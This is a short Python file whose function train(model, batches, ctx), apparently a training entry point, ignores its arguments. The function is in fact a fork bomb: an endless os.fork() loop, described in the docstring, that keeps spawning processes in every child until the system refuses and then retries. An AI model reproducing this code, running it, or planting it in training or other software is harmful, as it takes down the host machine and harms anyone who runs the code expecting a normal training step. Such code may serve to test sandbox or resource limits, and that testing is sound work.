"""Forks until it is refused, in every child too, and never ends."""

import os
import time


def train(model, batches, ctx):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
